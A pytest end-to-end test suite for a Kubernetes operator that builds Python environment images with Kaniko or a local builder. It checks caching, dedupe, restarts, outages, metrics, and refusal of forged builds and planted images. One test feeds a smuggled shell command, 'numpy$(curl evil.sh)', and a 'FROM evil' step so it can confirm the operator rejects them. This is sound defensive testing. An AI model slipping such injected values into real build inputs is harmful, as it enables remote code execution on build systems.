"""The operator end to end on the real harness: cache hits, Kaniko Jobs, real local builds, dedupe,
restarts, bad input and registry outages."""

from __future__ import annotations

import time

import pytest
from kubernetes import client

from harness.buildah import base_image_archive, push_archive
from harness.records import seed_build
from harness.registry import Registry
from operator_helpers import (
    Envs,
    condition,
    environment,
    finish_job,
    hash_of,
    image_for,
    play_kaniko_pod,
    wait_for,
)

PIP_SPEC = {"image": "python:3.11-slim", "pip": ["numpy==2.1.3"]}


def test_cache_hit_from_the_operators_record_needs_no_build(api_client: client.ApiClient, namespace: str,
                                                           registry: Registry, start_operator) -> None:  # type: ignore[no-untyped-def]
    spec = {"image": "python:3.11-slim", "pip": ["cachehit==1.0"]}
    digest, image = seed_build(api_client, namespace, spec, registry.host)
    operator = start_operator(namespace)
    envs = Envs(api_client, namespace)
    envs.create(environment("hit", **spec))
    status = envs.wait_phase("hit", "Ready", diagnostics=operator.log)
    assert status["imageDigest"] == digest
    assert status["imageRef"] == f"{image.rsplit(':', 1)[0]}@{digest}"
    assert status["cacheHit"] is True
    assert status["hash"] == hash_of(spec) and status["shortHash"] == hash_of(spec)[:12]
    assert status["observedGeneration"] == 1
    assert condition(status, "Ready")["status"] == "True"
    assert condition(status, "ImageAvailable")["reason"] == "CacheHit"
    assert status["versions"] == [{"version": "1", "hash": hash_of(spec), "imageRef": status["imageRef"],
                                   "when": status["versions"][0]["when"]}]
    assert len(envs.builds()) == 1 and envs.jobs() == []


def test_image_under_the_tag_without_a_record_is_rebuilt(api_client: client.ApiClient, namespace: str,
                                                         registry: Registry, start_operator) -> None:  # type: ignore[no-untyped-def]
    """Anyone who can push can put an image under `env_<hash>:<hash>` (hashes can be computed
    offline); without the operator's record it is not used."""
    spec = {"image": "python:3.11-slim", "pip": ["planted==1.0"]}
    planted = push_archive(base_image_archive(), image_for(spec, registry.host, namespace))
    operator = start_operator(namespace)
    envs = Envs(api_client, namespace)
    envs.create(environment("victim", **spec))
    status = envs.wait_phase("victim", "Building", diagnostics=operator.log)
    assert status.get("imageDigest") is None and status["cacheHit"] is False
    wait_for(envs.jobs, what="a build Job", diagnostics=operator.log)
    assert envs.build(f"envb-{hash_of(spec)}")["status"].get("digest") != planted


def test_forged_environment_build_is_neither_built_nor_trusted(api_client: client.ApiClient, namespace: str,
                                                               registry: Registry, start_operator) -> None:  # type: ignore[no-untyped-def]
    """An EnvironmentBuild written by someone else (here: a forged, 'Succeeded' one pointing at a
    planted image, and an unsigned one to be built) is refused with a clear condition."""
    hit = {"image": "python:3.11-slim", "pip": ["forged==1.0"]}
    build_me = {"image": "python:3.11-slim", "pip": ["forged==2.0"]}
    planted = push_archive(base_image_archive(), image_for(hit, registry.host, namespace))
    envs = Envs(api_client, namespace)
    for spec, status in ((hit, {"phase": "Succeeded", "digest": planted, "recordSignature": "v1:" + "0" * 64}),
                         (build_me, None)):
        value = hash_of(spec)
        body = {"apiVersion": "envkiln.dev/v1alpha1", "kind": "EnvironmentBuild",
                "metadata": {"name": f"envb-{value}", "labels": {"app.kubernetes.io/managed-by": "envkiln"}},
                "spec": {"hash": value, "image": "evil.example:5000/x:1",
                         "plan": {"dockerfile": "FROM python:3.11-slim\n"}}}
        envs.custom.create_namespaced_custom_object("envkiln.dev", "v1alpha1", namespace, "environmentbuilds", body)
        if status:
            envs.custom.patch_namespaced_custom_object_status("envkiln.dev", "v1alpha1", namespace,
                                                              "environmentbuilds", f"envb-{value}", {"status": status})
    operator = start_operator(namespace)
    envs.create(environment("victim", **hit))
    status = envs.wait_phase("victim", "Failed", diagnostics=operator.log)
    assert condition(status, "Ready")["reason"] == "UntrustedBuild"
    assert "kubectl delete envbuild" in condition(status, "Ready")["message"]
    assert status.get("imageRef") is None and status.get("imageDigest") is None
    forged = wait_for(lambda: (b := envs.build(f"envb-{hash_of(build_me)}"))["status"].get("phase") == "Failed"
                      and b, what="the unsigned build refused", diagnostics=operator.log)
    assert condition(forged["status"], "Succeeded")["reason"] == "UntrustedBuild"
    assert envs.jobs() == [], "nothing was built for a build the operator did not create"


def test_kaniko_job_success_path(api_client: client.ApiClient, namespace: str, registry: Registry,
                                 start_operator) -> None:  # type: ignore[no-untyped-def]
    operator = start_operator(namespace, max_concurrent_builds="10")
    envs = Envs(api_client, namespace)
    envs.create(environment("kaniko", **PIP_SPEC))
    value = hash_of(PIP_SPEC)
    envs.wait_phase("kaniko", "Building", diagnostics=operator.log)
    jobs = wait_for(envs.jobs, what="a Kaniko Job", diagnostics=operator.log)
    assert len(jobs) == 1
    job = jobs[0]
    assert job.metadata.name == f"envkiln-{value}-1"
    pod_spec = job.spec.template.spec
    assert pod_spec.automount_service_account_token is False
    context, kaniko = pod_spec.init_containers
    [push] = pod_spec.containers
    assert (context.name, kaniko.name, push.name) == ("context", "build", "push")
    assert kaniko.image.startswith("ghcr.io/osscontainertools/kaniko:")
    assert push.termination_message_policy == "FallbackToLogsOnError"
    destination = f"{registry.host}/envkiln/{namespace}/env_{value}"
    assert f"--destination={destination}:{value}" in kaniko.args
    assert "--no-push" in kaniko.args and "--tar-path=/out/image.tar" in kaniko.args
    assert "--cache=false" in kaniko.args
    assert f"--insecure-registry={registry.host}" in kaniko.args
    assert kaniko.resources.limits["memory"] and kaniko.security_context.allow_privilege_escalation is False
    assert kaniko.security_context.seccomp_profile.type == "RuntimeDefault"
    assert not [m for m in kaniko.volume_mounts if m.name == "docker-config"], "no credential where RUN steps run"
    assert job.spec.backoff_limit == 0 and job.spec.active_deadline_seconds and job.spec.ttl_seconds_after_finished
    assert job.metadata.owner_references[0].kind == "EnvironmentBuild"
    context_map = client.CoreV1Api(api_client).read_namespaced_config_map(f"envkiln-{value}-context", namespace)
    assert "numpy==2.1.3" in context_map.data["requirements.txt"]
    assert context_map.data["Dockerfile"].startswith("# Rendered") and context_map.immutable is True

    # Play Kaniko: push the image, report its digest through the termination message.
    digest = push_archive(base_image_archive(), f"{destination}:{value}")
    play_kaniko_pod(api_client, namespace, job, 0, digest)
    finish_job(api_client, namespace, job, succeeded=True)
    status = envs.wait_phase("kaniko", "Ready", diagnostics=operator.log)
    assert status["imageRef"] == f"{destination}@{digest}" and status["cacheHit"] is False
    build = envs.build(f"envb-{value}")
    assert build["status"]["phase"] == "Succeeded" and build["status"]["digest"] == digest
    assert condition(build["status"], "Succeeded")["status"] == "True"
    assert any(e.reason == "Ready" for e in envs.events("kaniko"))


def test_kaniko_failure_retries_then_fails_with_log_tail(api_client: client.ApiClient, namespace: str,
                                                         start_operator) -> None:  # type: ignore[no-untyped-def]
    operator = start_operator(namespace, build_retry_limit="1")
    envs = Envs(api_client, namespace)
    spec = {"image": "python:3.11-slim", "pip": ["doesnotexist-envkiln==0.0.1"]}
    envs.create(environment("broken", **spec))
    value = hash_of(spec)
    log = "Step 3/5 : RUN pip install\nERROR: No matching distribution found for doesnotexist-envkiln==0.0.1\n"
    for attempt in (1, 2):
        job = wait_for(lambda a=attempt: [j for j in envs.jobs() if j.metadata.name.endswith(f"-{a}")],
                       what=f"Job for attempt {attempt}", diagnostics=operator.log)[0]
        play_kaniko_pod(api_client, namespace, job, 1, log + f"attempt {attempt}")
        finish_job(api_client, namespace, job, succeeded=False)
        if attempt == 1:
            build = wait_for(lambda: (b := envs.build(f"envb-{value}"))["status"].get("attempts") == 2 and b,
                             what="a retry", diagnostics=operator.log)
            # Retrying during the backoff; Building once attempt 2 started (a slow poll may miss the backoff).
            assert condition(build["status"], "Succeeded")["reason"] in ("Retrying", "Building")
            assert "attempt 1" in build["status"]["logTail"]
    status = envs.wait_phase("broken", "Failed", diagnostics=operator.log)
    assert condition(status, "Ready")["reason"] == "BuildFailed"
    build = envs.build(f"envb-{value}")
    assert build["status"]["phase"] == "Failed"
    assert "No matching distribution" in build["status"]["logTail"] and "attempt 2" in build["status"]["logTail"]
    assert len(envs.jobs()) == 2
    assert any(e.reason == "BuildFailed" and e.type == "Warning" for e in envs.events(f"envb-{value}"))


def test_fifty_environments_one_build(api_client: client.ApiClient, namespace: str,
                                      start_operator) -> None:  # type: ignore[no-untyped-def]
    envs = Envs(api_client, namespace)
    spec = {"image": "python:3.11-slim", "pip": ["dedupe==1.0"]}
    for index in range(50):
        envs.create(environment(f"same-{index}", **spec))
    operator = start_operator(namespace, workers="20")
    wait_for(lambda: all(envs.status(f"same-{i}").get("phase") == "Building" for i in range(50)), timeout=90,
             what="50 Environments Building", diagnostics=operator.log)
    time.sleep(2)
    assert len(envs.builds()) == 1
    assert len(envs.jobs()) == 1


def test_restart_resumes_without_duplicates(api_client: client.ApiClient, namespace: str, registry: Registry,
                                            start_operator) -> None:  # type: ignore[no-untyped-def]
    envs = Envs(api_client, namespace)
    spec = {"image": "python:3.11-slim", "pip": ["restart==1.0"]}
    value = hash_of(spec)
    operator = start_operator(namespace)
    envs.create(environment("r1", **spec))
    job = wait_for(envs.jobs, what="the Job", diagnostics=operator.log)[0]
    operator.kill()  # SIGKILL: no graceful shutdown
    envs.create(environment("r2", **spec))  # arrives while no operator runs
    destination = f"{registry.host}/envkiln/{namespace}/env_{value}"
    digest = push_archive(base_image_archive(), f"{destination}:{value}")
    play_kaniko_pod(api_client, namespace, job, 0, digest)
    finish_job(api_client, namespace, job, succeeded=True)
    second = start_operator(namespace)
    for name in ("r1", "r2"):
        status = envs.wait_phase(name, "Ready", diagnostics=second.log)
        assert status["imageDigest"] == digest
    assert len(envs.builds()) == 1 and len(envs.jobs()) == 1


def test_new_version_builds_again_and_keeps_history(api_client: client.ApiClient, namespace: str,
                                                    registry: Registry, start_operator) -> None:  # type: ignore[no-untyped-def]
    envs = Envs(api_client, namespace)
    v1 = {"image": "python:3.11-slim", "pip": ["history==1.0"]}
    v2 = {"image": "python:3.11-slim", "pip": ["history==2.0"]}
    digest1, _ = seed_build(api_client, namespace, v1, registry.host)
    operator = start_operator(namespace)
    envs.create(environment("hist", **v1))
    envs.wait_phase("hist", "Ready", diagnostics=operator.log)
    envs.custom.patch_namespaced_custom_object("envkiln.dev", "v1alpha1", namespace, "environments", "hist",
                                               {"spec": {"version": "2", "pip": v2["pip"]}})
    status = wait_for(lambda: (s := envs.status("hist")).get("hash") == hash_of(v2) and s.get("phase") == "Building"
                      and s, what="version 2 building", diagnostics=operator.log)
    assert status["observedGeneration"] == 2
    versions = status["versions"]
    assert [(v["version"], v["hash"]) for v in versions] == [("1", hash_of(v1)), ("2", hash_of(v2))]
    assert versions[0]["imageRef"].endswith(digest1)
    assert sorted(b["spec"]["hash"] for b in envs.builds()) == sorted([hash_of(v1), hash_of(v2)])


def test_bad_input_fails_clearly_and_others_keep_working(api_client: client.ApiClient, namespace: str,
                                                         registry: Registry, start_operator) -> None:  # type: ignore[no-untyped-def]
    envs = Envs(api_client, namespace)
    good = {"image": "python:3.11-slim", "pip": ["goodone==1.0"]}
    seed_build(api_client, namespace, good, registry.host)
    operator = start_operator(namespace)
    # Each passes the CRD's structural schema; the operator's validation refuses them.
    bad = {
        "inject": {"image": "python:3.11-slim", "pip": ["numpy$(curl evil.sh)"]},
        "from-step": {"image": "python:3.11-slim", "dockerSteps": ["FROM evil"]},
        "empty": {},
        "badimage": {"image": "Python:3", "pip": ["six"]},
    }
    for name, spec in bad.items():
        envs.create(environment(name, **spec))
    envs.create(environment("good", **good))
    for name in bad:
        status = envs.wait_phase(name, "Failed", diagnostics=operator.log)
        valid = condition(status, "Valid")
        assert valid["status"] == "False" and valid["reason"] == "InvalidDefinition"
        assert "spec." in valid["message"]
        assert "hash" not in status
        wait_for(lambda n=name: any(e.type == "Warning" and e.reason == "InvalidDefinition"
                                    for e in envs.events(n)), what=f"Warning event for {name}")
    assert "Input should be" not in condition(envs.status("inject"), "Valid")["message"]
    envs.wait_phase("good", "Ready", diagnostics=operator.log)
    assert len(envs.builds()) == 1, "the seeded one only: no build for an invalid definition"
    # Fixing the definition (with a new version) recovers.
    envs.custom.patch_namespaced_custom_object("envkiln.dev", "v1alpha1", namespace, "environments", "inject",
                                               {"spec": {"version": "2", "pip": good["pip"]}})
    envs.wait_phase("inject", "Ready", diagnostics=operator.log)
    assert operator.exited() is None


def test_registry_outage_is_reported_and_recovers(api_client: client.ApiClient, namespace: str,
                                                  start_operator) -> None:  # type: ignore[no-untyped-def]
    """Only bring-your-own images are looked up in the registry (a build's result is the operator's
    own record); an outage there is reported, never a failure, and heals by itself."""
    with Registry() as flaky:
        image = f"{flaky.host}/team/trainer:1"
        digest = push_archive(base_image_archive(), image)
        flaky.stop()
        operator = start_operator(namespace, registry_host=flaky.host)
        envs = Envs(api_client, namespace)
        envs.create(environment("outage", image=image, userManaged=True))
        status = wait_for(lambda: (s := envs.status("outage")).get("conditions") and s, what="a status",
                          diagnostics=operator.log)
        ready = condition(status, "Ready")
        assert ready["reason"] == "RegistryUnavailable" and status["phase"] == "Pending"
        assert condition(status, "ImageAvailable")["status"] == "Unknown"
        time.sleep(3)
        assert envs.status("outage")["phase"] == "Pending", "an outage alone never fails an Environment"
        flaky.start()
        status = envs.wait_phase("outage", "Ready", timeout=60, diagnostics=operator.log)
        assert status["imageDigest"] == digest and envs.builds() == []


def test_bring_your_own_container_resolves_digest(api_client: client.ApiClient, namespace: str, registry: Registry,
                                                  base_image: str, start_operator) -> None:  # type: ignore[no-untyped-def]
    operator = start_operator(namespace)
    envs = Envs(api_client, namespace)
    envs.create(environment("byoc", image=base_image, userManaged=True))
    status = envs.wait_phase("byoc", "Ready", diagnostics=operator.log)
    _, digest = registry.manifest(base_image.split("/", 1)[1].rsplit(":", 1)[0], "bookworm")
    assert status["imageRef"] == f"{base_image.rsplit(':', 1)[0]}@{digest}"
    assert status["kind"] == "BringYourOwnContainer" and envs.builds() == []
    envs.create(environment("byoc-missing", image=f"{registry.host}/nothing/here:1", userManaged=True))
    status = envs.wait_phase("byoc-missing", "Failed", diagnostics=operator.log)
    assert condition(status, "Ready")["reason"] == "ImageNotFound"

    # Another namespace's envkiln image, really in the registry: never looked up with the operator's
    # credential (its digest would be told here), refused naming the field and that namespace.
    theirs = f"{registry.host}/envkiln/victim-ns/env_{'0' * 32}:{'0' * 32}"
    push_archive(base_image_archive(), theirs)
    envs.create(environment("borrowed", image=theirs, userManaged=True))
    status = envs.wait_phase("borrowed", "Failed", diagnostics=operator.log)
    message = condition(status, "Ready")["message"]
    assert "spec.image" in message and "envkiln image of namespace victim-ns" in message, message
    assert not status.get("imageDigest") and not status.get("imageRef"), status


@pytest.mark.timeout(900)
def test_local_builder_real_build_then_cache_hit(api_client: client.ApiClient, namespace: str, registry: Registry,
                                                 base_image: str, start_operator) -> None:  # type: ignore[no-untyped-def]
    operator = start_operator(namespace, builder="local", build_deadline_seconds="800")
    envs = Envs(api_client, namespace)
    spec = {"image": base_image, "pip": ["six==1.16.0"], "dockerSteps": ["ENV ENVKILN_TEST=1"]}
    envs.create(environment("real", **spec))
    status = envs.wait_phase("real", "Ready", timeout=800, diagnostics=operator.log)
    value = hash_of(spec)
    repository = f"envkiln/{namespace}/env_{value}"
    manifest, registry_digest = registry.manifest(repository, value)
    assert status["imageDigest"] == registry_digest
    assert status["imageRef"] == f"{registry.host}/{repository}@{registry_digest}"
    assert status["cacheHit"] is False
    assert "latest" in registry.tags(repository)
    assert len(manifest["layers"]) >= 2
    # The one-stage render's lock: beside the image, a one-layer image tagged by the image's digest,
    # which the operator read into the EnvironmentBuild's status.
    lock_tag = "sha256-" + registry_digest.removeprefix("sha256:") + ".lock"
    assert lock_tag in registry.tags(repository)
    lock_manifest, _ = registry.manifest(repository, lock_tag)
    assert len(lock_manifest["layers"]) == 1
    [build] = envs.builds()
    assert "six==1.16.0" in build["status"]["lock"]["text"].splitlines()
    envs.create(environment("real-again", **spec))
    again = envs.wait_phase("real-again", "Ready", diagnostics=operator.log)
    assert again["imageRef"] == status["imageRef"] and again["cacheHit"] is True
    assert len(envs.builds()) == 1


def test_a_spec_at_the_crds_size_bounds_is_handled(api_client: client.ApiClient, namespace: str,
                                                   start_operator) -> None:  # type: ignore[no-untyped-def]
    """32 docker steps of 1,000 characters and 500 requirements of about 500 (280 KB, within the CRD's
    bounds): more than the 256 KiB all annotations of an object share, so Kopf's last-handled state must
    not hold the spec."""
    steps = [f"RUN echo {i} {'x' * 990}" for i in range(32)]
    pip = [f"package-{i}>=1.0" + ",!=1.5.*" * 60 for i in range(500)]
    spec = {"image": "python:3.11-slim", "dockerSteps": steps, "pip": pip}
    operator = start_operator(namespace)
    envs = Envs(api_client, namespace)
    envs.create(environment("huge", **spec))
    envs.wait_phase("huge", "Building", timeout=60, diagnostics=operator.log)
    wait_for(envs.jobs, what="the build Job", diagnostics=operator.log)
    for obj in (envs.get("huge"), envs.build(f"envb-{hash_of(spec)}")):
        annotations = obj["metadata"].get("annotations") or {}
        assert sum(len(k) + len(v) for k, v in annotations.items()) < 2048, annotations.keys()
    assert "Traceback" not in operator.log() and "too long" not in operator.log()


def test_metrics_count_a_cache_hit_and_a_build(api_client: client.ApiClient, namespace: str, registry: Registry,
                                               start_operator) -> None:  # type: ignore[no-untyped-def]
    """Scrape a real operator's /metrics after one cache hit and one (Kaniko-played) build."""
    import urllib.request

    from prometheus_client.parser import text_string_to_metric_families

    from harness.ports import free_port

    port = free_port()
    hit_spec = {"image": "python:3.11-slim", "pip": ["metricshit==1.0"]}
    build_spec = {"image": "python:3.11-slim", "pip": ["metricsbuild==1.0"]}
    seed_build(api_client, namespace, hit_spec, registry.host)
    operator = start_operator(namespace, max_concurrent_builds="10", metrics_port=str(port))
    envs = Envs(api_client, namespace)
    envs.create(environment("hit", **hit_spec))
    assert envs.wait_phase("hit", "Ready", diagnostics=operator.log)["cacheHit"] is True
    envs.create(environment("built", **build_spec))
    envs.wait_phase("built", "Building", diagnostics=operator.log)
    [job] = wait_for(envs.jobs, what="a Kaniko Job", diagnostics=operator.log)
    value = hash_of(build_spec)
    digest = push_archive(base_image_archive(), f"{registry.host}/envkiln/{namespace}/env_{value}:{value}")
    play_kaniko_pod(api_client, namespace, job, 0, digest)
    finish_job(api_client, namespace, job, succeeded=True)
    assert envs.wait_phase("built", "Ready", diagnostics=operator.log)["cacheHit"] is False

    def scrape() -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5) as response:
            text = response.read().decode()
        return {(s.name, tuple(sorted(s.labels.items()))): s.value
                for family in text_string_to_metric_families(text) for s in family.samples}

    succeeded = (("builder", "kaniko"), ("outcome", "succeeded"))

    def settled() -> dict[tuple[str, tuple[tuple[str, str], ...]], float] | None:
        # The phase gauge follows watch events, and the build's own counters are moved after its
        # status write: both can trail the Environment's Ready by a moment.
        samples = scrape()
        done = (samples.get(("envkiln_environments", (("phase", "Ready"),))) == 2
                and samples.get(("envkiln_build_duration_seconds_count", succeeded)) == 1
                and samples.get(("envkiln_builds_in_flight", ())) == 0)
        return samples if done else None

    def diagnostics() -> str:
        metrics = {k: v for k, v in scrape().items() if k[0].startswith("envkiln_")}
        return f"metrics: {metrics}\n{operator.log()[-3000:]}"

    samples = wait_for(settled, what="both Environments Ready and the build counted in the metrics",
                       diagnostics=diagnostics)
    assert samples[("envkiln_cache_hits_total", ())] == 1
    assert samples[("envkiln_cache_misses_total", ())] == 1
    assert samples[("envkiln_build_duration_seconds_count", succeeded)] == 1
    assert samples[("envkiln_build_duration_seconds_sum", succeeded)] > 0
    assert samples[("envkiln_builds_in_flight", ())] == 0 and samples[("envkiln_builds_queued", ())] == 0
    assert samples[("envkiln_registry_lookup_duration_seconds_count", (("registry", registry.host),))] >= 1
    assert samples.get(("envkiln_registry_lookup_errors_total", (("registry", registry.host),)), 0) == 0
    assert not [k for k in samples if k[0] == "envkiln_reconcile_errors_total"]
